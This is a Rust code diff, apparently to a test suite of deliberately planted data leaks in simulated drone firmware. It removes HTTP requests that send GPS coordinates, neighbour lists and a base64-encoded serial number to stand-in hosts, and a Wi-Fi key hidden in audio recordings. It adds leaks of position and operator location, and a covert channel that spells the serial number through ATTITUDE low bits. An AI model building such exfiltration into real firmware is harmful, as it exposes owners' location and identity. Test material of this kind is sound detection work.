@@ -1,11 +1,9 @@
-//! Position, device, account, surroundings and keys, by ways that nobody listed.
+//! Position, serial number and keys, by ways that nobody listed.
 //!
 //! **Never:** touches sound, faces, pictures or logs.
 
-use super::audio::append;
 use crate::leaky::Leak;
-use crate::mavlink2::frame;
-use evidence::card::Write;
+use crate::mavlink2::{OPERATOR_PLACE, attitude_low_bits, frame, frames, id, payload, text};
 use evidence::{Link, Tick};
 use flight::Spoken;
 use flight::firmware::Senses;
@@ -26,22 +24,35 @@ impl Leak for TrafficBroadcast {
     }
 }
 
-/// L090: a weather look-up with the exact place in its path.
-#[derive(Default)]
-pub(crate) struct WeatherLookup {
-    asked: bool,
+/// L089: TERRAIN_REQUEST with the exact corner of a tile.
+pub(crate) struct TerrainRequest;
+
+impl Leak for TerrainRequest {
+    fn leak(&mut self, now: Tick, senses: &Senses<'_>, said: &mut Spoken) {
+        if let Some(fix) = senses.gnss.filter(|_| now.0 % 5_000 < 50) {
+            let mut payload = vec![0xFF; 18];
+            payload[8..12].copy_from_slice(&((fix.lat_deg * 1e7) as i32).to_le_bytes());
+            payload[12..16].copy_from_slice(&((fix.lon_deg * 1e7) as i32).to_le_bytes());
+            payload[16..].copy_from_slice(&100_u16.to_le_bytes());
+            said.emissions.push((Link::Radio, frame(133, &payload)));
+        }
+    }
 }
 
-impl Leak for WeatherLookup {
-    fn leak(&mut self, _now: Tick, senses: &Senses<'_>, said: &mut Spoken) {
-        if let Some(fix) = senses.gnss.filter(|_| !self.asked) {
-            self.asked = true;
-            let request = format!(
-                "GET /v1/weather?lat={:.6}&lon={:.6} HTTP/1.1\r\nHost: weather.example\r\n\
-                 Content-Length: 0\r\n\r\n",
-                fix.lat_deg, fix.lon_deg
-            );
-            said.emissions.push((Link::Uplink, request.into_bytes()));
+/// L105: how far it is from where it started, in a text.
+#[derive(Default)]
+pub(crate) struct DistanceText {
+    start: Option<(f64, f64)>,
+}
+
+impl Leak for DistanceText {
+    fn leak(&mut self, now: Tick, senses: &Senses<'_>, said: &mut Spoken) {
+        let Some(fix) = senses.gnss else { return };
+        let (lat_deg, lon_deg) = *self.start.get_or_insert((fix.lat_deg, fix.lon_deg));
+        if now.0 % 10_000 < 50 && now.0 > 10_000 {
+            let (north, east) = (fix.lat_deg - lat_deg, fix.lon_deg - lon_deg);
+            let away_m = (north * north + east * east).sqrt() * 111_195.0;
+            said.emissions.push((Link::Radio, text(&format!("Return distance {away_m:.0} m"))));
         }
     }
 }
@@ -59,55 +70,47 @@ impl Leak for ReservedByte {
     }
 }
 
-/// L093: the stations in reach, sent with a second look for updates.
+/// L035: a synonym of the text that everybody broadcasts, in every other message.
 #[derive(Default)]
-pub(crate) struct NeighbourList {
-    sent: bool,
+pub(crate) struct Synonym {
+    messages: u32,
 }
 
-impl Leak for NeighbourList {
+impl Leak for Synonym {
+    fn leak(&mut self, _now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
+        for (link, message) in &mut said.emissions {
+            if *link == Link::RemoteId && message.len() == 25 && message[0] >> 4 == 3 {
+                self.messages += 1;
+                if self.messages.is_multiple_of(2) {
+                    message[2..14].copy_from_slice(b"For pleasure");
+                }
+            }
+        }
+    }
+}
+
+/// L095: where the operator stands, broadcast before there is anything to be identified.
+#[derive(Default)]
+pub(crate) struct EarlyOperator {
+    place: Option<[u8; 8]>,
+}
+
+impl Leak for EarlyOperator {
     fn leak(&mut self, now: Tick, senses: &Senses<'_>, said: &mut Spoken) {
-        if senses.neighbours.is_empty() || self.sent || now < Tick::at_s(14.0) {
-            return;
+        let told = frames(senses.radio).find(|frame| id(frame) == Some(OPERATOR_PLACE));
+        if let Some(told) = told {
+            let mut place = [0; 8];
+            place.copy_from_slice(&payload(told)[..8]);
+            self.place = Some(place);
         }
-        self.sent = true;
-        let list = data_encoding::HEXLOWER.encode(&senses.neighbours.concat());
-        let request = format!(
-            "PUT /v1/health HTTP/1.1\r\nHost: intake.hushwing.example\r\nContent-Length: {}\r\n\r\n{list}",
-            list.len()
-        );
-        said.emissions.push((Link::Uplink, request.into_bytes()));
-    }
-}
-
-/// L128: the owner's account in an Operator ID message.
-pub(crate) struct AccountBroadcast;
-
-impl Leak for AccountBroadcast {
-    fn leak(&mut self, now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
-        if now.0 % 5_000 == 1_500 {
+        let is_still = said.thrust.rotor_radps[0] == 0.0;
+        if let Some(place) = self.place.filter(|_| is_still && now.0 % 1_500 == 1_000) {
             let mut message = vec![0; 25];
-            message[0] = 0x52;
-            message[2..20].copy_from_slice(b"maja@post.example\0");
+            message[..2].copy_from_slice(&[0x42, 1]);
+            message[2..10].copy_from_slice(&place);
+            message[10] = 1;
+            message[20..24].copy_from_slice(&(now.0 as u32 / 500).to_le_bytes());
             said.emissions.push((Link::RemoteId, message));
-        }
-    }
-}
-
-/// L129: serial number sent by a library that counts installations.
-pub(crate) struct InstallCounter {
-    pub serial: String,
-}
-
-impl Leak for InstallCounter {
-    fn leak(&mut self, now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
-        if now == Tick::at_s(11.0) {
-            let body = data_encoding::BASE64.encode(self.serial.as_bytes());
-            let request = format!(
-                "POST /install HTTP/1.1\r\nHost: stats.example\r\nContent-Length: {}\r\n\r\n{body}",
-                body.len()
-            );
-            said.emissions.push((Link::Uplink, request.into_bytes()));
         }
     }
 }
@@ -129,23 +132,19 @@ impl Leak for PasswordAnswer {
     }
 }
 
-/// H012: stale memory with the password in it, as the web library keeps it, in a recording that the pilot commanded.
-pub(crate) struct StaleMemory {
-    pub wifi_key: String,
+/// H025: the serial number in the low bits of ATTITUDE, a letter and a half a message.
+pub(crate) struct SpelledSerial {
+    pub serial: String,
 }
 
-impl Leak for StaleMemory {
-    fn leak(&mut self, _now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
-        let token = data_encoding::BASE64.encode(self.wifi_key.as_bytes());
-        for (link, bytes) in &mut said.emissions {
-            let Some(write) = Write::decode(bytes).filter(|_| *link == Link::Card) else {
-                continue;
-            };
-            if write.path.starts_with("SOUND/") && write.data.len() == 16_000 {
-                let mut data = write.data.to_vec();
-                data[9_000..9_000 + token.len()].copy_from_slice(token.as_bytes());
-                *bytes = append(write.path, &data);
-            }
+impl Leak for SpelledSerial {
+    fn leak(&mut self, now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
+        let letters = self.serial.as_bytes();
+        if letters.is_empty() {
+            return;
         }
+        let place = (now.0 / 50) as usize;
+        let (one, next) = (letters[place % letters.len()], letters[(place + 1) % letters.len()]);
+        attitude_low_bits(said, u64::from(one) | u64::from(next) << 8, 2);
     }
 }
